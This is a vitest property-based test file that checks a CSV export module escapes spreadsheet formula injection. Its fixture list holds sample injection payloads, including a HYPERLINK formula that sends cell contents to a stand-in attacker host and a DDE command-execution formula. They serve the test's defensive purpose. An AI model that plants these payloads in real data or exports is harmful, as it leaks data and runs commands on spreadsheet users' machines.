import { PassThrough } from 'node:stream';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { escapeFormula, writeCsv } from './csv';

/**
 * CSV exports (users.csv, opportunities.csv, service data; the report jobs and the CSV
 * routes share writeCsv) escape formula injection: a text cell starting with =, +, -, @, tab or CR
 * is written with a leading single quote, so a spreadsheet shows it as text. Generated with
 * fast-check: FUZZ_RUNS cases, else 200 in CI and 1000 locally.
 */
const RUNS = Number(process.env['FUZZ_RUNS'] ?? (process.env['CI'] === 'true' ? 200 : 1000));
const DANGEROUS = ['=', '+', '-', '@', '\t', '\r'];

const toCsv = async (columns: string[], rows: unknown[][]) => {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (chunk: Buffer) => chunks.push(chunk));
  await writeCsv(
    columns,
    (async function* () {
      await Promise.resolve();
      yield* rows;
    })(),
    out,
  );
  return Buffer.concat(chunks).toString('utf8');
};

/** Text a hostile user could put in a name, bio, description or organization name. */
const hostileText = fc.oneof(
  fc.string(),
  fc.tuple(fc.constantFrom(...DANGEROUS), fc.string()).map(([start, rest]) => `${start}${rest}`),
  fc.constantFrom(
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1+1',
    '-2+3',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '=1,2\n=3',
    '"=quoted"',
  ),
);

describe('CSV exports escape formula injection', () => {
  it('escapeFormula prefixes exactly the cells a spreadsheet would run', () => {
    for (const start of DANGEROUS) expect(escapeFormula(`${start}1+1`)).toBe(`'${start}1+1`);
    for (const safe of ['Ann', '1+1', ' =1', "'=1", '', '#1', 'a=b'])
      expect(escapeFormula(safe)).toBe(safe);
  });

  it('no text cell of a written CSV starts a formula, and the text is kept after the quote', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.tuple(hostileText, hostileText, fc.integer(), fc.boolean()), {
          minLength: 1,
          maxLength: 5,
        }),
        async (rows) => {
          const text = await toCsv(['first_name', 'bio', 'points', 'admin'], rows);
          const rowsOut: string[][] = parse(text);
          const [header, ...parsed] = rowsOut;
          expect(header).toEqual(['first_name', 'bio', 'points', 'admin']);
          expect(parsed).toHaveLength(rows.length);
          parsed.forEach((cells, i) => {
            const [first, bio, points, admin] = rows[i] as [string, string, number, boolean];
            for (const [cell, original] of [
              [cells[0], first],
              [cells[1], bio],
            ] as const) {
              expect(DANGEROUS).not.toContain(cell?.charAt(0));
              expect(cell).toBe(DANGEROUS.includes(original.charAt(0)) ? `'${original}` : original);
            }
            expect(cells[2]).toBe(String(points));
            expect(cells[3]).toBe(admin ? 'true' : 'false');
          });
        },
      ),
      { numRuns: RUNS },
    );
  });
});
